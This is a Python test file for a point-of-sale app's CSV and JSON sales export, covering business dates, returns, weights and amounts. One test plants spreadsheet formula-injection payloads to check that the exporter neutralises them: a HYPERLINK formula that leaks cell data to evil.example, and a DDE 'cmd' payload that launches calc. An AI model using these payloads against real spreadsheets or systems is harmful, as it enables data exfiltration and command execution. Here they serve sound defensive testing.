"""``export_sales``: business-date ranges, returns, quantities and amounts in CSV and JSON."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date
from decimal import Decimal
from typing import Any

from sqlalchemy import text

from pos_app.domain.cart import Cart, Discount
from pos_app.domain.returns import refund_for
from pos_app.domain.roles import Role
from pos_app.domain.tenders import Payment
from pos_app.services.bundle import Services
from pos_app.services.export import CSV_COLUMNS, export_sales
from pos_app.services.sale_document import CompletedSale, SaleContext
from pos_app.services.sales import ReturnRequest
from tests.conftest import Staff
from tests.fakes import FakeClock

MONEY_COLUMNS = ("unit_price", "line_discount", "cart_discount", "line_total", "sale_total")
MONEY = re.compile(r"^-?\d+\.\d{2}$")


def export_csv(services: Services, start: date, end: date) -> tuple[int, list[dict[str, str]]]:
    out = io.StringIO()
    count = export_sales(services.engine, start, end, "csv", out)
    out.seek(0)
    reader = csv.DictReader(out)
    assert tuple(reader.fieldnames or ()) == CSV_COLUMNS
    return count, list(reader)


def export_json(services: Services, start: date, end: date) -> list[dict[str, Any]]:
    out = io.StringIO()
    count = export_sales(services.engine, start, end, "json", out)
    documents: list[dict[str, Any]] = json.loads(out.getvalue())
    assert len(documents) == count
    return documents


def open_shift(services: Services, staff: Staff) -> SaleContext:
    shift = services.shifts.open(staff.cashier.user_id, 50000)
    return SaleContext(
        staff.cashier.user_id, staff.cashier.name, shift.shift_id, shift.business_date
    )


def close_shift(services: Services, staff: Staff, ctx: SaleContext) -> None:
    services.shifts.close(
        ctx.shift_id, services.shifts.expected_cash(ctx.shift_id), staff.manager.user_id
    )


def sell(services: Services, ctx: SaleContext, *items: tuple[str, Decimal | int]) -> CompletedSale:
    cart = Cart(policy=services.policy)
    for sku, quantity in items:
        product = services.catalog.by_sku(sku)
        assert product is not None, sku
        cart.add(product, quantity)
    payment = Payment(cart.totals().total_minor)
    payment.add_cash(payment.remaining_minor + 500)
    return services.sales.complete_sale(cart, payment, ctx)


def test_only_sales_of_the_business_date_range_are_exported(
    services: Services, staff: Staff, clock: FakeClock
) -> None:
    # 23 Nov 09:00 UTC = 12:00 in Istanbul
    monday = open_shift(services, staff)
    first = sell(services, monday, ("MILK1L", 1))
    close_shift(services, staff, monday)
    # 24 Nov 10:00 UTC = 13:00 in Istanbul
    clock.advance(hours=25)
    tuesday = open_shift(services, staff)
    second = sell(services, tuesday, ("TEA1KG", 1), ("SOAP", 2))
    close_shift(services, staff, tuesday)
    # 24 Nov 22:30 UTC is already 25 Nov 01:30 in Istanbul
    clock.advance(hours=12, minutes=30)
    night = open_shift(services, staff)
    third = sell(services, night, ("BREAD", 3))
    assert (monday.business_date, tuesday.business_date, night.business_date) == (
        date(2026, 11, 23),
        date(2026, 11, 24),
        date(2026, 11, 25),
    )

    count, rows = export_csv(services, date(2026, 11, 24), date(2026, 11, 24))
    assert count == 1
    assert [(r["receipt_no"], r["line_no"], r["sku"]) for r in rows] == [
        (second.receipt_no, "1", "TEA1KG"),
        (second.receipt_no, "2", "SOAP"),
    ]
    assert {r["business_date"] for r in rows} == {"2026-11-24"}

    count, rows = export_csv(services, date(2026, 11, 23), date(2026, 11, 24))
    assert count == 2
    assert [r["receipt_no"] for r in rows] == [first.receipt_no] + [second.receipt_no] * 2

    count, rows = export_csv(services, date(2026, 11, 25), date(2026, 11, 25))
    assert count == 1
    (row,) = rows
    assert (row["receipt_no"], row["business_date"]) == (third.receipt_no, "2026-11-25")
    assert row["completed_at"].startswith("2026-11-24T22:30")  # UTC; the business date is local

    assert export_csv(services, date(2026, 11, 20), date(2026, 11, 22)) == (0, [])
    assert export_json(services, date(2026, 11, 26), date(2026, 12, 31)) == []
    documents = export_json(services, date(2026, 11, 1), date(2026, 11, 30))
    assert [d["receipt_no"] for d in documents] == [
        "S01-T01-000001",
        "S01-T01-000002",
        "S01-T01-000003",
    ]
    assert [d["business_date"] for d in documents] == ["2026-11-23", "2026-11-24", "2026-11-25"]


def test_returns_weights_and_amounts(services: Services, ctx: SaleContext) -> None:
    cart = Cart(policy=services.policy)
    apple, milk = services.catalog.by_sku("APPLE"), services.catalog.by_sku("MILK1L")
    assert apple is not None and milk is not None
    cart.add(apple, Decimal("1.250"))  # 49.90/kg * 1.25 = 62.375 -> 62.38
    milk_line = cart.add(milk, 2)  # 2 * 45.50 = 91.00, less 5 % = 86.45
    cart.apply_line_discount(milk_line.line_id, Discount.percent(5), Role.CASHIER)
    payment = Payment(cart.totals().total_minor)
    payment.add_cash(15000)
    sale = services.sales.complete_sale(cart, payment, ctx)
    assert (sale.total_minor, sale.change_minor) == (14883, 117)

    found = services.sales.find_sale(sale.receipt_no)
    returned = services.sales.complete_return(
        ReturnRequest(
            [refund_for(found.lines[0], Decimal("0.5")), refund_for(found.lines[1], Decimal(1))],
            original=found,
        ),
        ctx,
    )
    assert returned.total_minor == -(2495 + 4323)

    count, rows = export_csv(services, ctx.business_date, ctx.business_date)
    assert count == 2
    shown: tuple[str, ...] = (
        "receipt_no",
        "kind",
        "sku",
        "quantity",
        "unit_price",
        "line_discount",
    )
    shown += ("line_total", "vat_rate", "sale_total", "tenders")
    picked = [tuple(r[column] for column in shown) for r in rows]
    sold, back = "S01-T01-000001", "S01-T01-000002"
    assert picked == [
        (sold, "sale", "APPLE", "1.250", "49.90", "0.00", "62.38", "1", "148.83", "cash:148.83"),
        (sold, "sale", "MILK1L", "2", "45.50", "4.55", "86.45", "1", "148.83", "cash:148.83"),
        (
            back,
            "return",
            "APPLE",
            "-0.500",
            "49.90",
            "0.00",
            "-24.95",
            "1",
            "-68.18",
            "cash:-68.18",
        ),
        (back, "return", "MILK1L", "-1", "43.23", "0.00", "-43.23", "1", "-68.18", "cash:-68.18"),
    ]
    for row in rows:
        assert all(MONEY.match(row[column]) for column in (*MONEY_COLUMNS, "sale_tax")), row
        assert row["cashier"] == "Ayşe"
    assert rows[2]["sale_tax"].startswith("-")

    documents = export_json(services, ctx.business_date, ctx.business_date)
    sale_doc, return_doc = documents
    assert return_doc["kind"] == "return"
    assert return_doc["original_sale_id"] == sale_doc["id"] == sale.sale_id
    assert return_doc["total_minor"] == -6818
    assert [line["qty_milli"] for line in sale_doc["lines"]] == [1250, 2000]
    assert [line["qty_milli"] for line in return_doc["lines"]] == [-500, -1000]
    assert [line["total_minor"] for line in return_doc["lines"]] == [-2495, -4323]
    assert [(t["kind"], t["amount_minor"]) for t in return_doc["tenders"]] == [("cash", -6818)]
    assert sum(t["net_minor"] + t["tax_minor"] for t in return_doc["taxes"]) == -6818
    assert sale_doc["approvals"] == [] and "approvals_json" not in sale_doc


def test_whole_kilograms_returned_still_print_as_weights(
    services: Services, ctx: SaleContext
) -> None:
    sale = sell(services, ctx, ("APPLE", Decimal("2.000")))
    found = services.sales.find_sale(sale.receipt_no)
    services.sales.complete_return(
        ReturnRequest([refund_for(found.lines[0], Decimal(2))], original=found), ctx
    )
    _, rows = export_csv(services, ctx.business_date, ctx.business_date)
    assert [(r["kind"], r["quantity"]) for r in rows] == [("sale", "2.000"), ("return", "-2.000")]


def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_numbers_stay_numbers(
    services: Services, staff: Staff
) -> None:
    """A name beginning with ``=``, ``+``, ``-``, ``@``, tab or CR is a formula to a
    spreadsheet (issue 15, item 13): written with a ``'`` before it, as OWASP recommends.
    Amounts and quantities are numbers: a refund's negative amounts are not quoted."""
    names = {
        "MILK1L": '=HYPERLINK("http://evil.example/?"&A1,"Süt")',
        "TEA1KG": "+90 212 555 00 00",
        "SOAP": "-5 % indirim",
        "BREAD": "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    with services.engine.begin() as conn:
        for sku, name in names.items():
            conn.execute(
                text("UPDATE product SET name = :name WHERE sku = :sku"), {"name": name, "sku": sku}
            )
        conn.execute(
            text("UPDATE user SET name = :name WHERE id = :id"),
            {"name": "=cmd|' /C calc'!A0", "id": staff.cashier.user_id},
        )
    ctx = open_shift(services, staff)
    sale = sell(services, ctx, *((sku, 1) for sku in names))
    # Received by sync from an older till: a tab or CR could lead a name (a formula after it).
    with services.engine.begin() as conn:
        for line_no, name in ((3, "\t=1+1"), (4, "\r=1+1")):
            conn.execute(
                text("UPDATE sale_line SET name = :name WHERE line_no = :n"),
                {"name": name, "n": line_no},
            )
    found = services.sales.find_sale(sale.receipt_no)
    services.sales.complete_return(
        ReturnRequest([refund_for(found.lines[0], Decimal(1))], original=found), ctx
    )
    out = io.StringIO()
    export_sales(services.engine, ctx.business_date, ctx.business_date, "csv", out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [row["name"] for row in rows] == [
        "'" + names["MILK1L"],
        "'" + names["TEA1KG"],
        "'\t=1+1",
        "'\r=1+1",
        "'" + names["MILK1L"],  # the return's line
    ]
    assert {row["cashier"] for row in rows} == {"'=cmd|' /C calc'!A0"}
    back = rows[-1]
    assert (back["quantity"], back["line_total"], back["sale_total"]) == ("-1", "-45.50", "-45.50")
    assert back["sale_tax"].startswith("-")  # numbers as they are, no quote
    assert back["tenders"] == "cash:-45.50"  # text, but it begins with the tender's kind
    for row in rows:
        assert all(MONEY.match(row[column]) for column in MONEY_COLUMNS), row
